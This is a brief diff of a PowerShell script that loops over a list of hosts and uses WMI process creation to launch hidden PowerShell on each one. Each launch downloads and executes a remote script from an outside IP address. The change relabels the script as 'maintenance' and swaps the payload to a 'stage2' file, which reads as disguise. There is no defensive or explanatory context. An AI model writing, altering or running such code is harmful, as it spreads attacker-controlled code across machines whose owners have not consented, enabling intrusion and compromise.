@@ -1,5 +1,5 @@
-# run 1163 v1
+# maintenance 7438 v1
 $targets = Get-Content C:\Windows\Temp\hosts.txt
 foreach ($t in $targets) {
-  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://203.0.113.200/payload.ps1)"
+  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://192.0.2.44/stage2.ps1)"
 }
